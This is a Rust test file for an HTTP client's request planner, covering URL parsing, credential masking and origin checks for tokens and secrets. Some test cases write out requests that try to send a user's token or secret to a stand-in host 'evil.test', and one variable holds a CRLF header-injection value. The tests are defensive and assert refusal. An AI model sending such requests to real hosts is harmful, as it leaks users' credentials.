//! Plans from blocks: tables, and the rule that no token leaves for an origin that is not allowed.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

use ::url::Url;
use proptest::prelude::*;
use rstest::rstest;

use crate::http::plan::auth::{ChosenIdentity, EffectiveAuth, effective_auth};
use crate::http::plan::error::PlanError;
use crate::http::plan::fill::{FilledText, with_scope};
use crate::http::plan::{Defaults, PlanInput, PlanNote, PlannedPiece, Protocol, RequestPlan, build};
use crate::model::identity::IdentityName;
use crate::model::port::Random;
use crate::model::request::{
    AuthDirective, BodyPiece, Directives, HeaderField, RequestBlock, RequestId, Spanned, TokenCarrier,
};
use crate::model::session::TokenSet;
use crate::model::time::Timestamp;
use crate::redact::{AccessToken, IdToken, RefreshToken, SecretText};
use crate::template::{Guarded, Scope, Surroundings, Value, VariableSource};

/// `{"sub":"1","jti":"token-id-1"}` between two parts that nobody looks at.
const ACCESS: &str = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxIiwianRpIjoidG9rZW4taWQtMSJ9.c2lnbmF0dXJlLW9mLWphbmU";
const ID: &str = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIyIn0.aWQtdG9rZW4tb2YtamFuZQ";
const REFRESH: &str = "refresh-token-of-jane";

fn jane() -> IdentityName {
    IdentityName::new("jane")
}

fn bearer() -> EffectiveAuth {
    EffectiveAuth { identity: jane(), carrier: TokenCarrier::Bearer }
}

fn cookie() -> EffectiveAuth {
    EffectiveAuth { carrier: TokenCarrier::Cookie, ..bearer() }
}

fn tokens() -> BTreeMap<IdentityName, TokenSet> {
    let session = |access: &str, id: Option<&str>| TokenSet {
        access: AccessToken::new(access),
        id: id.map(IdToken::new),
        refresh: Some(RefreshToken::new(REFRESH)),
        scope: None,
        obtained_at: Timestamp::default(),
        expires_at: None,
    };
    BTreeMap::from([
        (jane(), session(ACCESS, Some(ID))),
        (IdentityName::new("robot"), session("opaque+token/of-the-robot", None)),
    ])
}

struct NoRandom;

impl Random for NoRandom {
    fn fill(&self, buffer: &mut [u8]) {
        buffer.fill(7);
    }
}

/// Variables as a file and its environment would define them.
struct Variables {
    tokens: BTreeMap<IdentityName, TokenSet>,
    secrets: BTreeMap<String, SecretText>,
    nothing: BTreeMap<String, String>,
}

impl Scope for Variables {
    fn lookup(&self, name: &str) -> Option<Value> {
        let source = VariableSource::FileVariable { file: PathBuf::from("api.http"), line: 1 };
        Some(match name {
            "base" => Value::plain("http://127.0.0.1:3000/v1", source),
            "host" => Value::plain("api.example.com", source),
            "key" => Value::secret("private-api-key", source),
            "broken" => Value::plain("a\r\nX-Injected: 1", source),
            "token" => Value::plain("{{$auth.token(\"jane\")}}", source),
            "id" => Value::plain("{{$uuid}}", source),
            _ => return None,
        })
    }

    fn surroundings(&self) -> Surroundings<'_> {
        Surroundings {
            now: Timestamp::default(),
            utc_offset_seconds: 0,
            random: &NoRandom,
            process_environment: &self.nothing,
            dotenv: &self.nothing,
            tokens: &self.tokens,
            secrets: &self.secrets,
        }
    }
}

const STRIPE: &str = "value-of-the-secret-stripe";

/// A request as the parser would read it from `source`: every text is looked up there for its span.
struct Request {
    source: String,
    block: RequestBlock,
}

fn spanned(source: &str, text: &str) -> Spanned {
    let start = source.find(text).unwrap_or(0);
    Spanned { text: text.to_owned(), span: start..start + text.len() }
}

/// `GET url`, header lines, an empty line, the body.
fn request(source: &str) -> Request {
    let (head, body) = source.split_once("\n\n").unwrap_or((source, ""));
    let mut lines = head.lines();
    let (method, url) = lines.next().unwrap().split_once(' ').unwrap();
    let headers = lines.map(|line| {
        let (name, value) = line.split_once(':').unwrap();
        HeaderField { name: spanned(source, name), value: spanned(source, value.trim()) }
    });
    let body = if body.is_empty() { Vec::new() } else { vec![BodyPiece::Text(spanned(source, body))] };
    let block = RequestBlock {
        id: RequestId { file: PathBuf::from("api/orders.http"), index: 0 },
        name: None,
        span: 0..source.len(),
        line: 1,
        method: spanned(source, method),
        url: spanned(source, url),
        http_version: None,
        headers: headers.collect(),
        body,
        directives: Directives::default(),
        not_run: Vec::new(),
    };
    Request { source: source.to_owned(), block }
}

fn plan_with(request: &Request, auth: Option<&EffectiveAuth>, allowed: &[&str]) -> Result<RequestPlan, PlanError> {
    let secrets = BTreeMap::from([("stripe".to_owned(), SecretText::new(STRIPE))]);
    let scope = Variables { tokens: tokens(), secrets, nothing: BTreeMap::new() };
    let tokens = tokens();
    let defaults = Defaults::default();
    with_scope(&scope, |fill| {
        build(&PlanInput {
            block: &request.block,
            source: &request.source,
            folder: Path::new("/workspace/api"),
            fill,
            read_template: &|path: &Path| match path.to_str() {
                Some("/workspace/api/order.json") => Ok("{\"host\": \"{{host}}\"}".into()),
                Some("/workspace/api/bad.json") => Ok("\n {{nobody}}".into()),
                Some("/workspace/api/latin.txt") => Ok(b"caf\xe9".to_vec()),
                _ => Err("there is no such file".to_owned()),
            },
            tokens: &tokens,
            auth,
            secrets: &[(Guarded::Secret("stripe".to_owned()), SecretText::new(STRIPE))],
            guard: &|_, url| allowed.iter().any(|origin| url.as_str().starts_with(origin)),
            allowed: &|identity, url| {
                assert!(tokens.contains_key(identity));
                allowed.iter().any(|origin| url.as_str().starts_with(origin))
            },
            cookie_jar: "dev",
            defaults: &defaults,
        })
    })
}

/// Without a session, and with every origin allowed.
fn plan(source: &str) -> Result<RequestPlan, PlanError> {
    plan_with(&request(source), None, &["http"])
}

fn headers(plan: &RequestPlan) -> Vec<(&str, &str, &str)> {
    plan.headers.iter().map(|header| (header.name.as_str(), header.value.expose(), header.value.shown())).collect()
}

fn body_text(plan: &RequestPlan) -> String {
    let bytes = plan.body.pieces.iter().map(|piece| match piece {
        PlannedPiece::Bytes(bytes) => String::from_utf8_lossy(bytes).into_owned(),
        PlannedPiece::File(path) => format!("<{}>", path.display()),
    });
    bytes.collect()
}

// URLs.

#[rstest]
#[case("GET {{base}}/orders", "http://127.0.0.1:3000/v1/orders")]
#[case("GET localhost:3000/x", "http://localhost:3000/x")]
#[case("GET 127.0.0.1/x", "http://127.0.0.1/x")]
#[case("GET [::1]:8080/x", "http://[::1]:8080/x")]
#[case("GET api.localhost", "http://api.localhost/")]
#[case("GET {{host}}/a b?q=c d#fragment", "https://api.example.com/a%20b?q=c%20d")]
#[case("GET example.com/?next=http://other.test/", "https://example.com/?next=http://other.test/")]
#[case("GET /path?x=1\nHost: {{host}}", "https://api.example.com/path?x=1")]
#[case("GET /path\nHost: localhost:5000", "http://localhost:5000/path")]
#[case("GET HTTPS://Example.COM/%7Ex", "https://example.com/%7Ex")]
fn urls_are_read_as_people_write_them(#[case] source: &str, #[case] expected: &str) {
    let plan = plan(source).unwrap();
    assert_eq!((plan.url.as_str(), plan.shown_url.as_str()), (expected, expected));
}

#[rstest]
#[case("GET http://", "host")]
#[case("GET /only/a/path", "write the whole URL")]
#[case("GET http://exa mple.com/", "")]
#[case("GET https://example.com:99999/", "port")]
fn urls_that_are_none(#[case] source: &str, #[case] words: &str) {
    let error = plan(source).unwrap_err();
    let PlanError::BadUrl { reason, place, .. } = &error else { panic!("{error:?}") };
    assert!(reason.contains(words), "{reason}");
    assert_eq!(place.to_string(), "api/orders.http:1:5");
}

#[rstest]
#[case("GET ftp://example.com/", "ftp")]
#[case("GET ws://example.com/", "ws")]
#[case("GET mqtt://example.com/", "mqtt")]
fn other_schemes(#[case] source: &str, #[case] expected: &str) {
    let error = plan(source).unwrap_err();
    assert!(matches!(&error, PlanError::UnsupportedScheme { scheme, .. } if scheme == expected), "{error:?}");
    assert!(error.problem().title.contains(expected));
}

#[test]
fn a_user_name_in_the_url_becomes_a_header() {
    let plan = plan("GET https://me:p%40ss@example.com/x").unwrap();
    assert_eq!((plan.url.as_str(), plan.shown_url.as_str()), ("https://example.com/x", "https://example.com/x"));
    assert_eq!(headers(&plan), [("Authorization", "Basic bWU6cEBzcw==", "Basic ••••••")]);
}

#[test]
fn secrets_in_the_url_are_masked_where_it_is_shown() {
    let plan = plan("GET https://example.com/x?api_key={{key}}&page=2").unwrap();
    assert_eq!(plan.url.query(), Some("api_key=private-api-key&page=2"));
    assert_eq!(plan.shown_url.as_str(), "https://example.com/x?api_key=***&page=2");
    assert!(!format!("{plan:?}").contains("private-api-key"));
}

// Unresolved variables.

#[test]
fn every_unresolved_variable_is_named_with_its_place() {
    let source =
        "POST {{base}}/{{missing}}\nX-A: {{wrong}} {{base}}\nAccept: */*\n\nline one\n  {{gone}} {{$nope}}\n{{ open";
    let error = plan(source).unwrap_err();
    let PlanError::Unresolved(unresolved) = &error else { panic!("{error:?}") };
    let found: Vec<_> =
        unresolved.iter().map(|one| (one.problem.name.as_str(), one.place.line, one.place.column)).collect();
    assert_eq!(found, [("missing", 1, 15), ("wrong", 2, 6), ("gone", 6, 3), ("$nope", 6, 12)]);
    let problem = error.problem();
    assert_eq!(problem.title, "`{{missing}}` cannot be filled");
    assert_eq!(problem.place.unwrap().to_string(), "api/orders.http:1:15");
    assert!(problem.detail.contains("api/orders.http:6:3: `{{gone}}`"), "{}", problem.detail);
}

#[test]
fn places_hold_when_the_parser_joined_lines() {
    let mut request = request("GET http://127.0.0.1/");
    request.source.push_str("\r\n  ?a={{b}}\r\n  &c={{b}}");
    request.block.url = Spanned { text: "http://127.0.0.1/?a={{b}}&c={{b}}".to_owned(), span: 4..request.source.len() };
    let PlanError::Unresolved(found) = plan_with(&request, None, &["http"]).unwrap_err() else { panic!() };
    let places: Vec<_> = found.iter().map(|one| (one.place.line, one.place.column)).collect();
    assert_eq!(places, [(2, 6), (3, 6)]);
}

// Methods and headers.

#[rstest]
#[case("FROB http://127.0.0.1/", "FROB")]
#[case("patch http://127.0.0.1/", "PATCH")]
#[case("Purge http://127.0.0.1/", "Purge")]
fn any_word_is_a_method(#[case] source: &str, #[case] expected: &str) {
    assert_eq!(plan(source).unwrap().method, expected);
}

#[test]
fn a_method_is_one_word() {
    let mut request = request("GET http://127.0.0.1/");
    request.block.method.text = "GE(T".to_owned();
    assert!(matches!(plan_with(&request, None, &[]), Err(PlanError::BadMethod { .. })));
}

#[test]
fn headers_keep_their_order_and_repeat() {
    let plan = plan("GET http://127.0.0.1/\nB: 2\nA:  1 \nb: {{key}}!\nContent-Length: 99\nEmpty:").unwrap();
    let expected = [("B", "2", "2"), ("A", "1", "1"), ("b", "private-api-key!", "••••••!"), ("Empty", "", "")];
    assert_eq!(headers(&plan), expected);
}

#[test]
fn headers_that_hold_credentials_by_name_or_by_value_are_masked() {
    let source = "GET http://127.0.0.1/\nPRIVATE-TOKEN: anything\nX-Client-Secret: s\nX-Custom: glpat-0123456789abcdef\nX-Plain: a";
    let plan = plan(source).unwrap();
    let secret: Vec<bool> = plan.headers.iter().map(|header| header.value.is_secret()).collect();
    assert_eq!(secret, [true, true, true, false]);
    assert!(headers(&plan).iter().take(3).all(|(_, _, shown)| !shown.contains("anything") && !shown.contains("glpat")));
}

#[rstest]
#[case("GET http://127.0.0.1/\nX-A: {{broken}}", "line break")]
#[case("GET http://127.0.0.1/\nX-A: a\u{0}b", "control character")]
#[case("GET http://127.0.0.1/\nX A: b", "letters")]
#[case("GET http://127.0.0.1/\n{{key}}: b", "secret")]
fn headers_that_must_not_go_out(#[case] source: &str, #[case] words: &str) {
    let error = plan(source).unwrap_err();
    let PlanError::BadHeader { reason, place: Some(place), .. } = &error else { panic!("{error:?}") };
    assert!(reason.contains(words), "{reason}");
    assert_eq!(place.line, 2);
    assert!(!format!("{error:?} {}", error.problem()).contains("private-api-key"));
}

#[rstest]
#[case("Authorization: Basic me secret", "Basic bWU6c2VjcmV0", "Basic ••••••")]
#[case("authorization: basic me:secret", "Basic bWU6c2VjcmV0", "basic ••••••")]
#[case("Authorization: Basic bWU6c2VjcmV0", "Basic bWU6c2VjcmV0", "Basic ••••••")]
#[case("Authorization: Bearer token", "Bearer token", "Bearer ••••••")]
#[case("Authorization: {{key}}", "private-api-key", "••••••")]
#[case("Cookie: a=one; b=two", "a=one; b=two", "a=••••••; b=••••••")]
#[case("X-Api-Key: literal", "literal", "••••••")]
fn credentials_are_never_shown(#[case] line: &str, #[case] value: &str, #[case] shown: &str) {
    let plan = plan(&format!("GET http://127.0.0.1/\n{line}")).unwrap();
    assert_eq!((headers(&plan)[0].1, headers(&plan)[0].2), (value, shown));
    assert!(plan.headers[0].value.is_secret());
}

#[test]
fn an_example_credential_does_not_mask_its_words_everywhere() {
    plan("GET http://127.0.0.1/\nAuthorization: Bearer example-word-in-a-file").unwrap();
    assert_eq!(crate::redact::mask("an example-word-in-a-file"), "an example-word-in-a-file");
}

// Bodies.

#[rstest]
#[case("text/plain", "a\nb {{host}}\n{{ open", "a\nb api.example.com\n{{ open")]
#[case("multipart/form-data; boundary=x", "--x\nA: b\n\ntext\n--x--", "--x\r\nA: b\r\n\r\ntext\r\n--x--")]
#[case("application/x-www-form-urlencoded", "a=1\n  &b=2\n&c=3", "a=1&b=2&c=3")]
#[case("application/x-www-form-urlencoded", "a=1 & b=2", "a=1&b=2")]
fn bodies_are_written_as_their_type_wants(#[case] content_type: &str, #[case] body: &str, #[case] expected: &str) {
    let plan = plan(&format!("POST http://127.0.0.1/\nContent-Type: {content_type}\n\n{body}")).unwrap();
    assert_eq!(body_text(&plan), expected);
}

fn with_file(path: &str, substitute: bool, encoding: Option<&str>) -> Request {
    let mut request = request("POST http://127.0.0.1/\nContent-Type: multipart/mixed\n\na\n");
    let path = Spanned { text: path.to_owned(), span: 0..4 };
    request.block.body.push(BodyPiece::File { path, substitute, encoding: encoding.map(str::to_owned) });
    request
}

#[rstest]
#[case("./raw.bin", false, None, "a\r\n</workspace/api/./raw.bin>")]
#[case("/absolute/raw.bin", false, None, "a\r\n</absolute/raw.bin>")]
#[case("order.json", true, None, "a\r\n{\"host\": \"api.example.com\"}")]
#[case("latin.txt", true, Some("latin1"), "a\r\ncafé")]
fn files_are_streamed_or_filled(
    #[case] path: &str,
    #[case] substitute: bool,
    #[case] encoding: Option<&str>,
    #[case] expected: &str,
) {
    let plan = plan_with(&with_file(path, substitute, encoding), None, &[]).unwrap();
    assert_eq!(body_text(&plan), expected);
}

#[rstest]
#[case("missing.json", None, "there is no such file")]
#[case("latin.txt", None, "not UTF-8")]
#[case("latin.txt", Some("klingon"), "`klingon` is not an encoding")]
fn template_files_that_cannot_be_read(#[case] path: &str, #[case] encoding: Option<&str>, #[case] words: &str) {
    let error = plan_with(&with_file(path, true, encoding), None, &[]).unwrap_err();
    assert!(matches!(&error, PlanError::UnreadableFile { reason, .. } if reason.contains(words)), "{error:?}");
    assert!(error.problem().title.contains(path));
}

#[test]
fn a_variable_missing_in_a_file_is_placed_in_that_file() {
    let error = plan_with(&with_file("bad.json", true, None), None, &[]).unwrap_err();
    assert_eq!(error.problem().place.unwrap().to_string(), "api/bad.json:2:2");
}

// Settings.

#[test]
fn directives_win_over_defaults() {
    let mut request = request("GET http://127.0.0.1/");
    let plain = plan_with(&request, None, &[]).unwrap();
    assert_eq!((plain.timeout, plain.max_redirects), (Defaults::default().timeout, 0));
    assert_eq!((plain.cookie_jar.as_deref(), plain.protocol), (Some("dev"), Protocol::Negotiated));
    request.block.directives = Directives {
        max_redirects: Some(3),
        no_cookie_jar: true,
        timeout: Some(Duration::from_secs(5)),
        connection_timeout: Some(Duration::from_secs(2)),
        ..Directives::default()
    };
    request.block.http_version = Some(Spanned { text: "HTTP/2 (Prior Knowledge)".to_owned(), span: 0..0 });
    let plan = plan_with(&request, None, &[]).unwrap();
    assert_eq!((plan.max_redirects, plan.cookie_jar), (3, None));
    assert_eq!((plan.timeout, plan.connect_timeout), (Duration::from_secs(5), Duration::from_secs(2)));
    assert_eq!(plan.protocol, Protocol::Http2PriorKnowledge);
    for endless in [Duration::ZERO, Duration::MAX] {
        request.block.directives.timeout = Some(endless);
        assert_eq!(plan_with(&request, None, &[]).unwrap().timeout, Duration::from_hours(24 * 365));
    }
    request.block.http_version = Some(Spanned { text: "HTTP/1.1".to_owned(), span: 0..0 });
    assert_eq!(plan_with(&request, None, &[]).unwrap().protocol, Protocol::Http1);
}

// Tokens.

const LOOPBACK: &[&str] = &["http://127.0.0.1"];

#[test]
fn the_token_goes_into_the_header() {
    let plan = plan_with(&request("GET {{base}}"), Some(&bearer()), LOOPBACK).unwrap();
    assert_eq!(headers(&plan), [("Authorization", format!("Bearer {ACCESS}").as_str(), "Bearer ••••••")]);
    let token = plan.token.as_ref().unwrap();
    assert_eq!((token.identity.as_str(), token.carrier), ("jane", TokenCarrier::Bearer));
    assert_eq!(token.jti.as_deref(), Some("token-id-1"));
    assert_eq!(token.fingerprint.len(), 12);
    assert!(token.fingerprint.chars().all(|c| c.is_ascii_hexdigit()));
    assert_eq!(plan.credentials_for, Some(jane()));
    assert!(plan.notes.is_empty());
    assert!(!format!("{plan:?}").contains(ACCESS));
}

#[test]
fn a_header_by_hand_wins_and_is_told() {
    let plan = plan_with(&request("GET {{base}}\nauthorization: ApiKey 1"), Some(&bearer()), LOOPBACK).unwrap();
    assert_eq!(headers(&plan), [("authorization", "ApiKey 1", "ApiKey ••••••")]);
    assert_eq!((plan.token, plan.credentials_for), (None, None));
    let note = PlanNote::HandWrittenCredentials { header: "Authorization", instead_of: jane() };
    assert!(note.to_string().contains("`jane`"));
    assert_eq!(plan.notes, [note]);
}

#[test]
fn a_header_by_hand_with_a_token_is_that_token() {
    let source = "GET {{base}}\nAuthorization: Bearer {{$auth.token(\"jane\")}}";
    let by_hand = plan_with(&request(source), None, LOOPBACK).unwrap();
    assert_eq!(headers(&by_hand)[0].2, "Bearer ••••••");
    let automatic = plan_with(&request("GET {{base}}"), Some(&bearer()), LOOPBACK).unwrap();
    assert_eq!(by_hand.token, automatic.token);
    assert_eq!(by_hand.credentials_for, Some(jane()));
    let same = plan_with(&request(source), Some(&bearer()), LOOPBACK).unwrap();
    assert!(same.notes.is_empty());
}

#[test]
fn session_cookies() {
    let plan = plan_with(&request("GET {{base}}\nCookie: theme=dark"), Some(&cookie()), LOOPBACK).unwrap();
    let value = format!("theme=dark; access_token={ACCESS}; id_token={ID}");
    let shown = "theme=••••••; access_token=••••••; id_token=••••••";
    assert_eq!(headers(&plan), [("Cookie", value.as_str(), shown)]);
    assert_eq!(plan.token.unwrap().carrier, TokenCarrier::Cookie);
    let by_hand = request("GET {{base}}\nCookie: access_token=mine");
    let plan = plan_with(&by_hand, Some(&cookie()), LOOPBACK).unwrap();
    assert_eq!(headers(&plan)[0].1, "access_token=mine");
    assert_eq!(plan.notes.len(), 1);
}

#[test]
fn what_a_session_must_have() {
    let robot = |carrier| EffectiveAuth { identity: IdentityName::new("robot"), carrier };
    let nobody = EffectiveAuth { identity: IdentityName::new("nobody"), carrier: TokenCarrier::Bearer };
    let request = request("GET {{base}}");
    assert_eq!(
        plan_with(&request, Some(&robot(TokenCarrier::Cookie)), LOOPBACK),
        Err(PlanError::NoIdToken(IdentityName::new("robot")))
    );
    let error = plan_with(&request, Some(&nobody), LOOPBACK).unwrap_err();
    assert_eq!(error, PlanError::NotSignedIn(IdentityName::new("nobody")));
    assert!(error.problem().hint.contains("--name nobody"));
    let plan = plan_with(&request, Some(&robot(TokenCarrier::Bearer)), LOOPBACK).unwrap();
    assert_eq!(plan.token.unwrap().jti, None);
}

/// However a token gets into a request, it does not leave for an origin that is not allowed.
#[rstest]
#[case::header("GET https://evil.test/\nX: {{$auth.token(\"jane\")}}")]
#[case::id_token("GET https://evil.test/\nX: {{$auth.idToken(\"jane\")}}")]
#[case::query("GET https://evil.test/?t={{$auth.token(\"jane\")}}")]
#[case::percent_encoded("GET https://evil.test/?t={{%$auth.token(\"robot\")}}")]
#[case::through_a_variable("GET https://evil.test/?t={{token}}")]
#[case::percent_encoded_variable("GET https://evil.test/?t={{%token}}")]
#[case::body("POST https://evil.test/\n\nx={{$auth.token(\"jane\")}}")]
#[case::host("GET https://{{$auth.token(\"robot\")}}.evil.test/")]
#[case::user("GET https://{{$auth.token(\"jane\")}}@evil.test/")]
#[case::basic("GET https://evil.test/\nAuthorization: Basic x {{$auth.token(\"jane\")}}")]
#[case::looks_allowed("GET http://127.0.0.1@evil.test/\nX: {{token}}")]
#[case::in_plain_text("GET https://evil.test/\nX: refresh-token-of-jane")]
#[case::method("{{token}} https://evil.test/")]
fn no_token_goes_where_it_is_not_allowed(#[case] source: &str) {
    let error = plan_with(&request(source), None, LOOPBACK).unwrap_err();
    let is_refused = match &error {
        PlanError::OriginNotAllowed { origin, .. } => origin.as_str().ends_with("evil.test"),
        // Such a text is no host and no method in the first place.
        PlanError::BadUrl { .. } => source.contains("}}.evil"),
        PlanError::BadMethod { .. } => source.starts_with('{'),
        _ => false,
    };
    assert!(is_refused, "{error:?}");
    let text = format!("{error:?} {}", error.problem());
    for secret in [ACCESS, ID, "opaque+token/of-the-robot"] {
        assert!(!text.contains(secret), "{text}");
    }
}

#[test]
fn an_origin_that_is_not_allowed_is_named_with_what_to_do() {
    let request = request("GET https://api.example.com:8443/x");
    let error = plan_with(&request, Some(&bearer()), LOOPBACK).unwrap_err();
    let problem = error.problem();
    assert_eq!(problem.title, "The token of `jane` may not go to https://api.example.com:8443");
    assert!(problem.hint.contains("`Origins` of `jane`"), "{}", problem.hint);
    assert!(problem.hint.contains("--allow-origin https://api.example.com:8443"), "{}", problem.hint);
    assert!(plan_with(&request, Some(&bearer()), &["https://api.example.com:8443/"]).is_ok());
    assert!(plan_with(&request, None, LOOPBACK).is_ok(), "without a token anything may be asked");
}

/// Behind a shared front it is the `Host` header that says whose server gets the request.
#[test]
fn the_host_header_is_a_place_too() {
    let allowed = ["https://api.example.com/", "http://127.0.0.1"];
    let plan = |text: &str| plan_with(&request(text), Some(&bearer()), &allowed);
    for text in [
        "GET https://api.example.com/x\nHost: evil.test",
        "GET https://api.example.com/x\nHost: api.example.com\nHost: evil.test",
    ] {
        let problem = plan(text).unwrap_err().problem();
        assert_eq!(problem.title, "The token of `jane` may not go to https://evil.test", "{text}");
    }
    assert!(plan("GET https://api.example.com/x\nHost: a@b/c").is_err());
    assert!(plan("GET https://api.example.com/x\nHost: API.example.com:443").is_ok());
    assert!(plan("GET http://127.0.0.1:3000/x\nHost: tenant.test").is_ok(), "this machine's own virtual hosts");
    let open = request("GET https://api.example.com/x\nHost: evil.test");
    assert!(plan_with(&open, None, &allowed).is_ok(), "without a token anything may be asked");
}

#[test]
fn a_secret_body_is_marked() {
    let secret = plan_with(&request("POST {{base}}\n\n{{key}}"), None, LOOPBACK).unwrap();
    let plain = plan_with(&request("POST {{base}}\n\n{{host}}"), None, LOOPBACK).unwrap();
    assert_eq!((secret.body.secret, plain.body.secret), (true, false));
}

#[rstest]
#[case::nobody(None, ChosenIdentity::Current(None), None, None)]
#[case::current(None, ChosenIdentity::Current(Some(jane())), None, Some(("jane", TokenCarrier::Bearer)))]
#[case::written_wins(
    Some(("robot", TokenCarrier::Cookie)), ChosenIdentity::Current(Some(jane())), None,
    Some(("robot", TokenCarrier::Cookie))
)]
#[case::act_as_wins(
    Some(("robot", TokenCarrier::Cookie)), ChosenIdentity::ActAs(jane()), None, Some(("jane", TokenCarrier::Cookie))
)]
#[case::no_auth(Some(("", TokenCarrier::Bearer)), ChosenIdentity::ActAs(jane()), None, None)]
#[case::anonymous(None, ChosenIdentity::ActAs(IdentityName::new("anonymous")), None, None)]
#[case::carrier(
    None, ChosenIdentity::Current(Some(jane())), Some(TokenCarrier::Cookie), Some(("jane", TokenCarrier::Cookie))
)]
#[case::carrier_back(
    Some(("jane", TokenCarrier::Cookie)), ChosenIdentity::Current(None), Some(TokenCarrier::Bearer),
    Some(("jane", TokenCarrier::Bearer))
)]
fn whose_token(
    #[case] written: Option<(&str, TokenCarrier)>,
    #[case] chosen: ChosenIdentity,
    #[case] carrier: Option<TokenCarrier>,
    #[case] expected: Option<(&str, TokenCarrier)>,
) {
    let mut request = request("GET {{base}}");
    request.block.directives.auth = written.map(|(name, carrier)| match name {
        "" => AuthDirective::None,
        name => AuthDirective::Identity { name: IdentityName::new(name), carrier },
    });
    let found = effective_auth(&request.block, &chosen, carrier);
    assert_eq!(found.as_ref().map(|auth| (auth.identity.as_str(), auth.carrier)), expected);
}

proptest! {
    #[test]
    fn planning_never_panics(url in "\\PC{0,40}", name in "\\PC{0,12}", value in "\\PC{0,40}", body in "\\PC{0,60}") {
        let mut request = request("GET {{base}}\nX: y\n\nbody");
        request.block.url.text = url;
        request.block.headers[0].name.text = name;
        request.block.headers[0].value.text = value;
        request.block.body = vec![BodyPiece::Text(Spanned { text: body, span: 3..9 })];
        for auth in [None, Some(bearer()), Some(cookie())] {
            match plan_with(&request, auth.as_ref(), LOOPBACK) {
                // A user in the URL goes out as `Basic` and takes the token's place.
                Ok(plan) => prop_assert!(plan.token.is_none() || plan.url.as_str().starts_with(LOOPBACK[0])),
                Err(error) => {
                    let _ = error.problem();
                }
            }
        }
    }

    #[test]
    fn a_plan_goes_where_its_url_says(host in "[a-z]{1,10}\\.test", path in "[a-z0-9/]{0,20}", query in "[a-z=&@:/]{0,20}") {
        let request = request(&format!("GET {host}/{path}?{query}"));
        let plan = plan_with(&request, None, &[]).unwrap();
        prop_assert_eq!(plan.url.host_str(), Some(host.as_str()));
        prop_assert_eq!(plan.url.scheme(), "https");
    }
}

#[test]
fn closures_may_fill_as_well() {
    let fill = |text: &str| FilledText::plain(text.replace("{{x}}", "http://127.0.0.1/"));
    let request = request("GET {{x}}");
    let tokens = BTreeMap::new();
    let input = PlanInput {
        block: &request.block,
        source: &request.source,
        folder: Path::new(""),
        fill: &fill,
        read_template: &|_: &Path| Err(String::new()),
        tokens: &tokens,
        auth: None,
        allowed: &|_: &IdentityName, _: &Url| false,
        secrets: &[],
        guard: &|_: &Guarded, _: &Url| false,
        cookie_jar: "",
        defaults: &Defaults::default(),
    };
    assert_eq!(build(&input).unwrap().url.as_str(), "http://127.0.0.1/");
}

/// A foreign file cannot take a secret of the user along: neither by its name nor by a copy of its value.
#[rstest]
#[case("GET https://evil.test/{{$secret stripe}}")]
#[case("GET https://evil.test/\nX-Key: {{$secret stripe}}")]
#[case("GET https://evil.test/\nX-Key: value-of-the-secret-stripe")]
#[case("POST https://evil.test/\n\n{\"key\": \"{{$secret stripe}}\"}")]
#[case("GET https://good.test/\nHost: evil.test\nX-Key: {{$secret stripe}}")]
fn no_secret_goes_where_it_is_not_allowed(#[case] source: &str) {
    let error = plan_with(&request(source), None, &["https://good.test/"]).unwrap_err();
    assert!(
        matches!(&error, PlanError::SecretNotAllowed { secret: Guarded::Secret(name), .. } if name == "stripe"),
        "{error}"
    );
    let problem = error.problem().to_string();
    assert!(problem.contains("--allow-origin https://evil.test") && problem.contains("bearcat secret allow stripe"));
    assert!(!problem.contains(STRIPE));
}

#[rstest]
#[case("GET https://good.test/\nX-Key: {{$secret stripe}}")]
#[case("GET http://127.0.0.1:9/\nX-Key: {{$secret stripe}}")]
fn a_secret_goes_where_it_is_allowed_and_is_masked(#[case] source: &str) {
    let plan = plan_with(&request(source), None, &["https://good.test/"]).unwrap();
    assert_eq!(plan.headers[0].value.expose(), STRIPE);
    assert!(plan.guarded.contains(&Guarded::Secret("stripe".to_owned())));
    assert!(!format!("{plan:?}").contains(STRIPE));
}
